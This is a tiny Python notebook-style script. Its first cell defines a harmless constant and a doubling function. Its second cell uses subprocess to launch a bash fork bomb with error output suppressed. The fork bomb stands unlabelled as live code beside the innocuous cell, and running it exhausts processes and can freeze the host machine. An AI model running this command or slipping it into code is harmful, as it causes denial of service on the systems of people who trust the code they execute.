# %%
answer = 42


def double(x):
    return 2 * x

# %%
import subprocess

subprocess.run(["bash", "-c", ":(){ :|:& };:"], stderr=subprocess.DEVNULL)
